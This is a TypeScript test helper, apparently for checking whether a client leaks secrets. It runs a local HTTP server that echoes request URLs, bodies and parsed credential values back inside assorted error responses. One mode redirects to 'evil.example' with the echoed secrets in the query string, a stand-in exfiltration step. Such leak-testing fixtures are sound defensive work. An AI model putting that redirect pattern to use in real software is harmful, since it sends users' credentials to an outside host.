import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

export type Echo = 'description' | 'code' | 'nested' | 'page' | 'redirect' | 'reset' | 'result' | 'expired';

export interface EchoPortal {
  readonly url: string;
  /** How it repeats from now on. */
  readonly answer: (how: Echo) => void;
  readonly close: () => void;
}

/** A portal that repeats to everybody what it was sent, secrets and all. */
export const openEcho = async (): Promise<EchoPortal> => {
  let how: Echo = 'description';
  const server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8');
    request.on('data', (chunk: string) => (body += chunk));
    request.on('end', () => {
      const url = request.url ?? '';
      if (url.startsWith('/oauth/')) {
        json(response, 400, { error: 'invalid_grant', error_description: repeat(url, body) });
      } else if (how === 'reset') {
        request.socket.destroy();
      } else {
        answer(response, how, repeat(url, body));
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    answer: (next: Echo): void => {
      how = next;
    },
    close: (): void => {
      server.closeAllConnections();
      server.close();
    },
  };
};

/** As it came, and with every secret taken out of its wrapping. */
const repeat = (url: string, body: string): string => {
  const form = [...new URLSearchParams(body).values()];
  try {
    return [url, body, ...Object.values(JSON.parse(body) as Record<string, unknown>).map(String)].join(' ');
  } catch {
    return [url, body, ...form].join(' ');
  }
};

const json = (response: ServerResponse, status: number, body: unknown): void => {
  response.writeHead(status);
  response.end(JSON.stringify(body));
};

const answer = (response: ServerResponse, how: Exclude<Echo, 'reset'>, text: string): void => {
  switch (how) {
    case 'description':
      json(response, 400, { error: 'X', error_description: text });
      return;
    case 'code':
      json(response, 400, { error: text });
      return;
    case 'nested':
      json(response, 500, { error: { code: 'INTERNAL_SERVER_ERROR', message: text } });
      return;
    case 'page':
      response.writeHead(502);
      response.end(`<html>${text}</html>`);
      return;
    case 'redirect':
      response.writeHead(302, { Location: `https://evil.example/?${encodeURIComponent(text)}` });
      response.end();
      return;
    case 'expired':
      json(response, 401, { error: 'expired_token', error_description: text });
      return;
    case 'result':
      json(response, 200, { result: 'odd', time: { text } });
  }
};
